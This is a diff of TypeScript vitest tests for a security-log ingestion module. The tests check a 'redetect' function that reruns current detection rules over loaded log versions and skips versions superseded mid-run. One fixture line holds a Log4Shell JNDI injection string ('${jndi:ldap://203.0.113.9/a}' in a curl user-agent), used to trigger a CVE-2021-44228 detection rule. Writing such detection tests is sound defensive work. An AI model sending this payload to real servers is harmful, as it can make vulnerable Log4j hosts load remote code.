@@ -1,6 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { InvalidInputError } from "../../../../layers/core/errors";
-import type { Detection } from "../../../../layers/core/security-logs/detection-rules";
+import { DETECTION_RULES, type Detection } from "../../../../layers/core/security-logs/detection-rules";
 import {
   type Chunk,
   type EventRow,
@@ -14,6 +14,7 @@ import {
   type LedgerStatus,
   type LogMember,
   type RejectedLine,
+  redetect,
 } from "../../../../layers/core/security-logs/ingest-log-object";
 import { type LogObjectRef, ObjectSupersededError } from "../../../../layers/core/security-logs/log-object";
 
@@ -134,6 +135,21 @@ function world(objects: Record<string, { text: string; metadata?: Record<string,
       },
       async saveDetections(_ref, found) {
         detections.splice(0, detections.length, ...found);
+      },
+      async loadedVersions(bucket, prefix) {
+        return [...ledger]
+          .filter(([k, row]) => k.startsWith(prefix) && row.status === "loaded")
+          .map(([k, row]) => {
+            const [key = "", etag = ""] = k.split("@");
+            return { ref: { bucket, key, etag, size: null }, detections: row.detections };
+          });
+      },
+      async replaceDetections(ref, found) {
+        const row = ledger.get(id(ref));
+        if (row?.status !== "loaded") return false;
+        detections.splice(0, detections.length, ...found);
+        row.detections = found.length;
+        return true;
       },
       async finish(ref, outcome) {
         const row = ledger.get(id(ref));
@@ -345,6 +361,60 @@ describe("the graph's host sightings", () => {
     expect(hostSightings(detections, (x) => x.rule.cve)).toEqual([
       { host: "h1", target: "CVE-2021-44228", rules: ["a"], firstSeen: "2020-01-02", lastSeen: "2020-01-05" },
     ]);
+  });
+});
+
+describe("redetect", () => {
+  // The rules as they stood before the JNDI rule: what loaded then found nothing in these lines.
+  const withoutJndi = {
+    ...DETECTION_RULES,
+    digest: "before-jndi",
+    rules: DETECTION_RULES.rules.filter((r) => r.id !== "log4shell-jndi-lookup"),
+  };
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal JNDI lookup
+  const jndi = (i: number) => line(i, { CommandLine: "curl -A '${jndi:ldap://203.0.113.9/a}' http://x" });
+
+  it("runs the current rules again over loaded versions: detections, ledger count and graph", async () => {
+    const w = world({ "raw-logs/j.json": { text: [jndi(1), line(2)].join("\n") } });
+    await ingestLogObject({ ...w.deps, rules: withoutJndi }, ref("raw-logs/j.json"), options);
+    expect(w.detections).toEqual([]);
+    expect(w.graph).toHaveLength(1);
+    const seen: string[] = [];
+    const done = await redetect(w.deps, "b", "raw-logs/", (r, i, total) =>
+      seen.push(`${i + 1}/${total} ${r.key} ${r.outcome}`),
+    );
+    expect(done).toEqual([
+      { key: "raw-logs/j.json", etag: "e1", outcome: "redetected", before: 0, detections: 1 },
+    ]);
+    expect(seen).toEqual(["1/1 raw-logs/j.json redetected"]);
+    expect(w.detections.map((d) => d.rule.id)).toEqual(["log4shell-jndi-lookup"]);
+    expect(w.ledger.get("raw-logs/j.json@e1")?.detections).toBe(1);
+    const merged = w.graph[1] as { vulnerabilities: { cve: string }[] };
+    expect(merged.vulnerabilities.map((v) => v.cve)).toEqual(["CVE-2021-44228"]);
+    // Outside the prefix: nothing.
+    expect(await redetect(w.deps, "b", "raw-logs/other/")).toEqual([]);
+  });
+
+  it("writes nothing for a version a newer one superseded while the rules ran", async () => {
+    const w = world({ "raw-logs/j.json": { text: jndi(1) } });
+    await ingestLogObject({ ...w.deps, rules: withoutJndi }, ref("raw-logs/j.json"), options);
+    const store = w.deps.store;
+    const racing = {
+      ...w.deps,
+      store: {
+        ...store,
+        async *scan(r: LogObjectRef, size: number) {
+          yield* store.scan(r, size);
+          const row = w.ledger.get("raw-logs/j.json@e1");
+          if (row) row.status = "superseded";
+        },
+      },
+    };
+    expect(await redetect(racing, "b", "raw-logs/")).toEqual([
+      { key: "raw-logs/j.json", etag: "e1", outcome: "superseded", before: 0, detections: 0 },
+    ]);
+    expect(w.detections).toEqual([]);
+    expect(w.graph).toHaveLength(1);
   });
 });
 
